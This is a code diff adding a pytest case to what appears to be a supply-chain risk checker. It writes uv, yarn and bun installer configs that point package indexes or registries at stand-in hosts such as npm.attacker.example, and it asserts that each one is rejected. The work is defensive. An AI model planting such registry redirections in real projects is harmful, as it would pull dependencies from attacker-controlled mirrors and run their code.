@@ -705,3 +705,23 @@ async def test_renamed_manifest_is_compared_with_its_source(evidence_for: Build)
     verdict = RISKS.check(evidence)
     assert verdict is not None
     assert verdict.decision == "reject"
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("uv.toml", '[[index]]\nurl = "https://mirror.attacker.example/simple"\n'),
+        ("uv.toml", 'extra-index-url = ["https://mirror.attacker.example/simple"]\n'),
+        (".yarnrc.yml", 'npmRegistryServer: "https://npm.attacker.example"\n'),
+        (".yarnrc", 'registry "https://npm.attacker.example"\n'),
+        ("bunfig.toml", '[install]\nregistry = "https://npm.attacker.example"\n'),
+    ],
+)
+async def test_installer_config_sources_are_rejected(
+    evidence_for: Build, name: str, text: str
+) -> None:
+    evidence = await run(evidence_for, write(name, text))
+    verdict = RISKS.check(evidence)
+    assert verdict is not None
+    assert verdict.decision == "reject"
+    assert "attacker" in verdict.reason or "index" in verdict.reason or "registr" in verdict.reason
